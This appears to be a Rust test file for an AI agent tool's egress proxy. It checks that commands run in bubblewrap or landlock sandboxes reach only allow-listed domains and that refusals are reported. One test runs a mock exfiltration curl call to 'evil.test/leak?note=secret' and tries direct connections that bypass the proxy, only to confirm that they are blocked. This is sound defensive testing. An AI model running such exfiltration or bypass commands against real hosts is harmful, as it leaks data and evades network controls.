//! The egress proxy and its bridge (issue 48): test domains are mapped to a local HTTP server through the proxy's
//! own resolver; a client speaks to the proxy directly, then `curl`, `wget`, Python and a DNS lookup run inside a
//! network namespace of their own (bubblewrap; with `CI` set a missing bubblewrap fails the test) whose only way
//! out is the bridge.

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::Arc;

use nanobot_tools::egress::{self, DomainList, EgressProxy, RefusalReason};
use nanobot_tools::ssrf::SsrfGuard;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A web server on loopback answering every request with the `Host` it was sent; its port.
async fn web_server() -> u16 {
    nanobot_testkit::host_echo::HostEcho::start().port()
}

/// A proxy letting through `allowed.test` (and its subdomains) and `internal.test`, loopback whitelisted.
fn proxy(dir: &Path) -> EgressProxy {
    let guard = SsrfGuard::from_cidrs(&["127.0.0.1/32"])
        .unwrap()
        .with_resolver(Arc::new(nanobot_testkit::host_echo::TestDns));
    EgressProxy::start(
        &dir.join("egress.sock"),
        DomainList::new(&["allowed.test", "internal.test"]),
        guard,
    )
    .unwrap()
}

/// Sends `request` to the proxy and reads everything it answers.
async fn ask(proxy: &EgressProxy, request: &str) -> String {
    let mut conn = tokio::net::UnixStream::connect(proxy.socket()).await.unwrap();
    conn.write_all(request.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    // The proxy answers and closes (a refusal), or the server does (Connection: close): bounded either way.
    tokio::time::timeout(std::time::Duration::from_secs(30), conn.read_to_end(&mut out))
        .await
        .expect("the proxy's answer ends")
        .unwrap();
    String::from_utf8_lossy(&out).into_owned()
}

#[tokio::test]
async fn the_proxy_lets_through_allowed_domains_and_names_what_it_refused() {
    let port = web_server().await;
    let dir = tempfile::tempdir().unwrap();
    let proxy = proxy(dir.path());

    let out = ask(
        &proxy,
        &format!("GET http://api.allowed.test:{port}/x HTTP/1.1\r\nHost: api.allowed.test:{port}\r\n\r\n"),
    )
    .await;
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(
        out.contains(&format!("hello from api.allowed.test:{port}")),
        "{out}"
    );

    let out = ask(
        &proxy,
        &format!("CONNECT allowed.test:{port} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: tunnelled\r\n\r\n"),
    )
    .await;
    assert!(out.starts_with("HTTP/1.1 200 Connection established"), "{out}");
    assert!(out.contains("hello from tunnelled"), "{out}");

    // A Host of the client's own choosing is not what reaches the server (no domain fronting).
    let out = ask(
        &proxy,
        &format!("GET http://allowed.test:{port}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    )
    .await;
    assert!(out.contains(&format!("hello from allowed.test:{port}")), "{out}");

    let out = ask(
        &proxy,
        &format!("GET http://denied.test:{port}/ HTTP/1.1\r\n\r\n"),
    )
    .await;
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert!(
        out.contains("denied.test: it is not in tools.network.allowedDomains (add it there to allow it)"),
        "{out}"
    );
    let out = ask(&proxy, &format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n")).await;
    assert!(
        out.starts_with("HTTP/1.1 403") && out.contains("an IP address is never allowed"),
        "{out}"
    );
    // On the list, but resolving to a private address: the SSRF guard still holds.
    let out = ask(&proxy, "CONNECT internal.test:443 HTTP/1.1\r\n\r\n").await;
    assert!(
        out.starts_with("HTTP/1.1 403") && out.contains("blocked address"),
        "{out}"
    );
    let out = ask(&proxy, "nonsense\r\n\r\n").await;
    assert!(out.starts_with("HTTP/1.1 400"), "{out}");

    // A socket left at the path by a proxy that did not end cleanly is replaced (a server's own directory is kept
    // between starts); another kind of file is not.
    let stale = dir.path().join("stale.sock");
    let left = std::os::unix::net::UnixListener::bind(&stale).unwrap();
    std::mem::forget(left);
    let again = EgressProxy::start(&stale, DomainList::new(&["allowed.test"]), SsrfGuard::default()).unwrap();
    drop(again);
    assert!(!stale.exists(), "removed when the proxy ends");
    let file = dir.path().join("not-a-socket");
    std::fs::write(&file, "data").unwrap();
    assert!(EgressProxy::start(&file, DomainList::new(&["allowed.test"]), SsrfGuard::default()).is_err());
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "data");

    let refused: Vec<(String, RefusalReason)> =
        proxy.refused().into_iter().map(|r| (r.host, r.reason)).collect();
    assert_eq!(refused[0], ("denied.test".to_owned(), RefusalReason::NotAllowed));
    assert_eq!(refused[1], ("127.0.0.1".to_owned(), RefusalReason::Address));
    assert_eq!(refused[2].0, "internal.test");
    assert_eq!(refused.len(), 3);
}

/// bubblewrap, when it can run here (with `CI` set it must; elsewhere the test is skipped, said on stdout).
pub(crate) fn bubblewrap() -> Option<PathBuf> {
    match &nanobot_tools::confine::kernel_support().bwrap {
        Ok(b) => Some(b.clone()),
        Err(why) => {
            assert!(
                std::env::var_os("CI").is_none(),
                "CI is set but bubblewrap cannot run here: {why}"
            );
            println!("skipped: {why}");
            None
        }
    }
}

/// The bridge program (`examples/egress_bridge.rs`, built by `cargo test`).
pub(crate) fn bridge_program() -> PathBuf {
    let exe = std::env::current_exe().unwrap();
    let path = exe
        .parent()
        .unwrap()
        .parent()
        .unwrap()
        .join("examples/egress_bridge");
    assert!(
        path.is_file(),
        "{} missing: run `cargo test -p nanobot-tools`",
        path.display()
    );
    path
}

#[tokio::test]
async fn in_a_namespace_without_network_only_the_proxy_leads_out() {
    let Some(bwrap) = bubblewrap() else {
        return;
    };
    let port = web_server().await;
    let dir = tempfile::tempdir().unwrap();
    let dir_path = dir.path().canonicalize().unwrap();
    let proxy = proxy(&dir_path);
    let script = format!(
        "curl -sS --max-time 10 http://allowed.test:{port}/; echo \"[curl=$?]\"; \
         curl -sS -p --max-time 10 http://allowed.test:{port}/; echo \"[tunnel=$?]\"; \
         wget -q -O - -T 10 http://sub.allowed.test:{port}/; echo \"[wget=$?]\"; \
         curl -sS --max-time 10 http://denied.test:{port}/; echo \"[denied=$?]\"; \
         curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/; echo \"[direct=$?]\"; \
         python3 -c 'import socket
try:
    socket.create_connection((\"127.0.0.1\", {port}), timeout=5); print(\"[python=connected]\")
except OSError as e:
    print(\"[python refused:\", e, \"]\")'; \
         python3 -c 'import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"8.8.8.8\", 53)); print(\"[udp=sent]\")
except OSError as e:
    print(\"[udp refused:\", e, \"]\")'; \
         getent hosts example.com; echo \"[dns=$?]\""
    );
    let mut cmd = tokio::process::Command::new(bwrap);
    cmd.args([
        "--unshare-user",
        "--unshare-net",
        "--die-with-parent",
        "--ro-bind",
        "/",
        "/",
        "--dev",
        "/dev",
    ])
    .args(["--proc", "/proc", "--bind"])
    .arg(&dir_path)
    .arg(&dir_path)
    .arg("--")
    .args(egress::bridge_argv(&bridge_program(), proxy.socket()))
    .args(["sh", "-c", &script])
    .env_clear()
    .env("PATH", std::env::var("PATH").unwrap_or_default())
    .envs(egress::proxy_env())
    .stdin(Stdio::null())
    .kill_on_drop(true);
    let out = tokio::time::timeout(std::time::Duration::from_secs(120), cmd.output())
        .await
        .expect("the sandboxed commands end within their own timeouts")
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains(&format!("hello from allowed.test:{port}")),
        "{text}"
    );
    for ok in ["[curl=0]", "[tunnel=0]", "[wget=0]"] {
        assert!(text.contains(ok), "{ok}: {text}");
    }
    assert!(
        text.contains(&format!("hello from sub.allowed.test:{port}")),
        "{text}"
    );
    assert!(
        text.contains("denied.test: it is not in tools.network.allowedDomains"),
        "the refusal reaches the program's output: {text}"
    );
    for refused in ["[direct=0]", "[python=connected]", "[udp=sent]", "[dns=0]"] {
        assert!(!text.contains(refused), "{refused} got out: {text}");
    }
    // Each failed for the reason that matters: nothing to connect to in the namespace.
    assert!(
        text.contains("[python refused: [Errno 111] Connection refused ]"),
        "{text}"
    );
    assert!(
        text.contains("[udp refused: [Errno 101] Network is unreachable ]"),
        "{text}"
    );
    assert_eq!(proxy.refused().len(), 1, "{:?}", proxy.refused());
}

/// `exec` settings with `allowed.test` allowed through the proxy, under `sandbox`.
fn egress_exec(sandbox: nanobot_tools::ExecSandbox) -> nanobot_tools::ExecSettings {
    let guard = SsrfGuard::from_cidrs(&["127.0.0.1/32"])
        .unwrap()
        .with_resolver(Arc::new(nanobot_testkit::host_echo::TestDns));
    let mut egress = egress::EgressSettings::new(DomainList::new(&["allowed.test"]), guard);
    egress.bridge = Some(bridge_program());
    nanobot_tools::ExecSettings {
        sandbox,
        parent_env: std::env::vars().collect(),
        egress: Some(egress),
        ..nanobot_tools::ExecSettings::default()
    }
}

async fn exec(settings: nanobot_tools::ExecSettings, command: &str) -> String {
    exec_with(settings, serde_json::json!({"command": command})).await
}

async fn exec_with(settings: nanobot_tools::ExecSettings, args: serde_json::Value) -> String {
    let ws = tempfile::tempdir().unwrap();
    let reg = nanobot_tools::ToolRegistry::default();
    let sandbox = nanobot_tools::sandbox::Sandbox::new(ws.path(), false);
    nanobot_tools::builtin::register_exec_tool(&reg, &settings, &sandbox).unwrap();
    reg.execute("exec", args, &crate::ctx(ws.path())).await.text
}

#[tokio::test]
async fn exec_reaches_only_the_allowed_domains_and_the_answer_names_what_was_refused() {
    if bubblewrap().is_none() {
        return;
    }
    let port = web_server().await;
    let out = exec(
        egress_exec(nanobot_tools::ExecSandbox::Bwrap),
        &format!(
            "curl -sS --max-time 10 http://allowed.test:{port}/; \
             curl -sS -o /dev/null --max-time 10 http://evil.test:{port}/leak?note=secret; \
             curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/; echo \"direct=$?\""
        ),
    )
    .await;
    assert!(out.contains(&format!("hello from allowed.test:{port}")), "{out}");
    assert!(!out.contains("direct=0"), "{out}");
    // The model reads which domain was refused and how to allow it, whatever the command printed.
    assert!(
        out.contains(
            "Network: nanobot refused the connection to evil.test: it is not in tools.network.allowedDomains \
             (add it there to allow it)"
        ),
        "{out}"
    );
    // An exec session is held the same way, and its poll says what was refused.
    let out = exec_with(
        egress_exec(nanobot_tools::ExecSandbox::Bwrap),
        serde_json::json!({
            "command": format!("curl -sS -o /dev/null --max-time 10 http://sink.test:{port}/; echo finished"),
            "yield_time_ms": 20_000
        }),
    )
    .await;
    assert!(out.contains("finished"), "{out}");
    assert!(
        out.contains("Network: nanobot refused the connection to sink.test"),
        "{out}"
    );
}

#[tokio::test]
async fn under_landlock_alone_a_command_has_no_network_at_all() {
    if let Err(why) = &nanobot_tools::confine::kernel_support().landlock {
        println!("skipped: {why}");
        return;
    }
    let port = web_server().await;
    let out = exec(
        egress_exec(nanobot_tools::ExecSandbox::Landlock),
        &format!(
            "curl -sS --max-time 5 http://allowed.test:{port}/; echo \"proxied=$?\"; \
             curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/; echo \"direct=$?\""
        ),
    )
    .await;
    assert!(!out.contains("hello from"), "{out}");
    assert!(!out.contains("proxied=0") && !out.contains("direct=0"), "{out}");
}

#[tokio::test]
async fn a_dropped_proxy_ends_its_open_tunnels() {
    let port = web_server().await;
    let dir = tempfile::tempdir().unwrap();
    let proxy = proxy(dir.path());
    let mut conn = tokio::net::UnixStream::connect(proxy.socket()).await.unwrap();
    conn.write_all(format!("CONNECT allowed.test:{port} HTTP/1.1\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut head = [0u8; 39];
    conn.read_exact(&mut head).await.unwrap();
    assert_eq!(&head, b"HTTP/1.1 200 Connection established\r\n\r\n");
    drop(proxy);
    // The tunnel is ended by the proxy, not left to the program: the client reads its end.
    let mut rest = Vec::new();
    tokio::time::timeout(std::time::Duration::from_secs(30), conn.read_to_end(&mut rest))
        .await
        .expect("the tunnel ends when the proxy is dropped")
        .unwrap();
    assert!(rest.is_empty());
    assert!(!dir.path().join("egress.sock").exists());
}
